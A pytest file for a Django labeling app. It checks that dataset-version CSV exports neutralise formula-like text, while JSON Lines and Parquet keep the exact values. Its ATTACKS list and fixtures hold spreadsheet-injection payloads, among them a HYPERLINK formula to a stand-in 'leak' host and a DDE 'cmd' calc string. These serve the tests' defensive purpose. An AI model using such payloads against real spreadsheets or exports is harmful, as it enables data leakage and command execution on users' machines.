"""Every CSV a dataset version carries writes formula-like text as text (a leading ``'``), while
JSON Lines and Parquet keep the exact values."""

import csv
import io
import zipfile

from django.core.files.storage import default_storage

from labeling.models import DataSource, Item, Tag
from labeling.services.imports import ImportEntry, items_import
from tests.conftest import make_project, wav_bytes
from tests.labeling.version_helpers import add_texts, answer, build, labelers, manifest, text_project

ATTACKS = ['=HYPERLINK("http://x.example/?leak","click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def stored_text(artifact):
    with default_storage.open(artifact.name, "rb") as handle:
        return handle.read().decode("utf-8")


def csv_rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_version_csv_neutralises_texts_tags_and_sources(manager):
    project = text_project(manager)
    source = DataSource.objects.create(project=project, name="=cmd|' /C calc'!A0", kind="internal")
    items = add_texts(project, ATTACKS, source=source)
    for item, attack in zip(items, ATTACKS, strict=True):
        tag = Tag.objects.create(project=project, name="tag" + attack)
        tag.items.add(item)
    (a,) = labelers(project, 1)
    for item in items:
        answer(item, a, "cat")
    version = build(project, manager, {"splits": {"train": 1.0}})

    rows = {int(r["item"]): r for r in csv_rows(stored_text(version.artifacts.get(format="csv")))}
    for item, attack in zip(items, ATTACKS, strict=True):
        row = rows[item.pk]
        assert row["text"] == "'" + attack
        assert row["source"] == "'=cmd|' /C calc'!A0"
        assert row["tags"] == "tag" + attack  # does not begin with a formula character: left as it is
        assert row["label"] == "cat" and float(row["agreement"]) == 1.0
    # The canonical manifest keeps the exact text.
    assert sorted(r["text"] for r in manifest(version)) == sorted(ATTACKS)


def test_a_tag_that_begins_with_a_formula_character_is_neutralised(manager):
    project = text_project(manager)
    (item,) = add_texts(project, ["fine"], tags=["@SUM(A1)"])
    (a,) = labelers(project, 1)
    answer(item, a, "dog")
    version = build(project, manager)
    (row,) = csv_rows(stored_text(version.artifacts.get(format="csv")))
    assert row["tags"] == "'@SUM(A1)"


def test_transcripts_in_the_version_csv_are_neutralised(manager):
    project = make_project(manager, name="Speech", modality="text", task_type="transcription")
    items = add_texts(project, ["clip a", "clip b"])
    (a,) = labelers(project, 1)
    answer(items[0], a, '=HYPERLINK("http://x.example")')
    answer(items[1], a, "-5 degrees")
    recipe = {"transcripts": {"conventions": False, "case": False, "punctuation": False, "whitespace": False}}
    version = build(project, manager, recipe)
    rows = {int(r["item"]): r for r in csv_rows(stored_text(version.artifacts.get(format="csv")))}
    assert rows[items[0].pk]["label"] == '\'=HYPERLINK("http://x.example")'
    assert rows[items[1].pk]["label"] == "'-5 degrees"
    assert {r["label"] for r in manifest(version)} == {'=HYPERLINK("http://x.example")', "-5 degrees"}


def test_audiofolder_metadata_csv_neutralises_transcripts(manager):
    project = make_project(manager, name="Calls", modality="audio", task_type="transcription")
    report = items_import(
        project=project,
        entries=[ImportEntry(name=f"{i}.wav", load=lambda i=i: wav_bytes(freq=300 + 40 * i)) for i in range(2)],
    )
    (a,) = labelers(project, 1)
    texts = ["@SUM(A1)", "plain words"]
    for pk, text in zip(report.imported, texts, strict=True):
        answer(Item.objects.get(pk=pk), a, text)
    recipe = {
        "splits": {"train": 1.0},
        "transcripts": {"conventions": False, "case": False, "punctuation": False, "whitespace": False},
    }
    version = build(project, manager, recipe)
    archive = zipfile.ZipFile(io.BytesIO(default_storage.open(version.artifacts.get(format="audiofolder").name).read()))
    rows = csv_rows(archive.read("train/metadata.csv").decode("utf-8"))
    assert {r["transcription"] for r in rows} == {"'@SUM(A1)", "plain words"}
